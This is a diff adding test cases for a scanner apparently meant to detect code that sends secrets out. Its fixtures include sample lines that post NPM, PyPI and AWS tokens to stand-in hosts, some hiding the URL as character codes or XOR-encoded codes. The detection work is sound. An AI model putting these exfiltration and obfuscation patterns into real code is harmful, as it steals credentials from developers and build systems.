@@ -4508,6 +4508,25 @@ describe('suspicious-network-endpoint: a secret kept in a name and sent later, o
     expect(sent('src/agent.ts', ['class Agent {', '  private cache: Record<string, string> = {};', '  init() {', "    this.cache.creds.k = process.env.AWS_SECRET_ACCESS_KEY ?? '';", '  }', '  a() {}', '  b() {}', '  async flush() {', "    await fetch('https://sync.cloud-stats.dev/f', { method: 'POST', body: JSON.stringify(this.cache) });", '  }', '}'])?.severity).toBe('high');
     expect(sent('pkg/stats/stats.go', ['func report() {', '\tu, _ := url.Parse("https://stats.pkg-insights.dev/c")', '\tq := u.Query()', '\tq.Set("k", os.Getenv("NPM_TOKEN"))', '\tq.Set("h", hostname())', '\tq.Set("a", "1")', '\tq.Set("b", "2")', '\tu.RawQuery = q.Encode()', '\thttp.Get(u.String())', '}'])?.severity).toBe('high');
   });
+  it('reads a destination built from character codes, XOR-ed codes or a format filled with names of the file, and judges the secret sent there (since 2026-12-02)', () => {
+    const XORED = '66, 94, 94, 90, 89, 16, 5, 5, 89, 94, 75, 94, 89, 4, 90, 65, 77, 7, 67, 68, 89, 67, 77, 66, 94, 89, 4, 78, 79, 92, 5, 73';
+    const CODES = '104, 116, 116, 112, 115, 58, 47, 47, 115, 116, 97, 116, 115, 46, 112, 107, 103, 45, 105, 110, 115, 105, 103, 104, 116, 115, 46, 100, 101, 118, 47, 99';
+    const body = "{ method: 'POST', body: JSON.stringify({ t: process.env.NPM_TOKEN }) }";
+    expect(sent('lib/warm.js', [`const SINK = String.fromCharCode(${CODES});`, `fetch(SINK, ${body});`])).toMatchObject({ severity: 'high', line: 12 });
+    expect(sent('lib/warm.js', ['const K = 0x2a;', `const E = [${XORED}];`, "const SINK = E.map((c) => String.fromCharCode(c ^ K)).join('');", `fetch(SINK, ${body});`])).toMatchObject({ severity: 'high', line: 14 });
+    expect(sent('lib/warm.js', [`const E = [${XORED}];`, `fetch(String.fromCharCode(...E.map((c) => c ^ 42)), ${body});`])?.severity).toBe('high');
+    expect(sent('pkg/warm.py', [`_E = [${XORED}]`, 'URL = "".join(chr(c ^ 0x2A) for c in _E)', 'requests.post(URL, json={"t": os.environ["NPM_TOKEN"]})'])?.severity).toBe('high');
+    expect(sent('pkg/warm.py', [`URL = bytes([${CODES}]).decode()`, 'requests.post(URL, json={"t": os.environ["PYPI_API_TOKEN"]})'])?.severity).toBe('high');
+    expect(sent('pkg/warm.py', ['HOST = "stats.pkg-insights.dev"', 'requests.post("https://%s/c" % HOST, json={"t": os.environ["NPM_TOKEN"]})'])?.severity).toBe('high');
+    expect(sent('pkg/warm.py', ['HOST = "stats.pkg-insights.dev"', 'requests.post("https://{}/c".format(HOST), json={"t": os.environ["NPM_TOKEN"]})'])?.severity).toBe('high');
+    expect(sent('pkg/stats/stats.go', ['const host = "stats.pkg-insights.dev"', '', 'func report() {', '\tkey := os.Getenv("NPM_TOKEN")', '\thttp.Post(fmt.Sprintf("https://%s/c", host), "text/plain", strings.NewReader(key))', '}'])).toMatchObject({ severity: 'high', line: 15 });
+  });
+  it('is quiet on a format of a configured base URL, codes XOR-ed with a key the file does not hold, and a built host that is the secret\'s own service', () => {
+    expect(sent('pkg/stats/stats.go', ['func report(cfg Config) {', '\tkey := os.Getenv("NPM_TOKEN")', '\thttp.Post(fmt.Sprintf("%s/c", cfg.BaseURL), "text/plain", strings.NewReader(key))', '}'])).toBeUndefined();
+    expect(sent('pkg/warm.py', ['requests.post("{}/c".format(settings.BASE_URL), json={"t": os.environ["NPM_TOKEN"]})'])).toBeUndefined();
+    expect(sent('lib/warm.js', ['const E = [66, 94, 94, 90, 89, 16, 5, 5, 89, 94, 75, 94, 89, 4, 90, 65, 77, 7, 67, 68, 89, 67, 77, 66, 94, 89, 4, 78, 79, 92, 5, 73];', "const SINK = E.map((c) => String.fromCharCode(c ^ key)).join('');", "fetch(SINK, { method: 'POST', body: JSON.stringify({ t: process.env.NPM_TOKEN }) });"])).toBeUndefined();
+    expect(sent('pkg/npm/whoami.go', ['const registry = "registry.npmjs.org"', '', 'func whoami() {', '\ttok := os.Getenv("NPM_TOKEN")', '\thttp.Post(fmt.Sprintf("https://%s/-/npm/v1/tokens", registry), "application/json", strings.NewReader(tok))', '}'])).toBeUndefined();
+  });
   it('is quiet when another field of the object is sent, the field goes as a header or to its own service, or the object configures a client', () => {
     const filled = ['const state = { count: 0 };', 'function init() {', '  state.token = process.env.GITHUB_TOKEN;', '}', 'function a() {}', 'function b() {}', 'async function ping() {'];
     expect(sent('lib/ping.js', [...filled, "  await fetch('https://telemetry.acme-tools.dev/ping', { method: 'POST', body: JSON.stringify({ n: state.count }) });", '}'])).toBeUndefined();
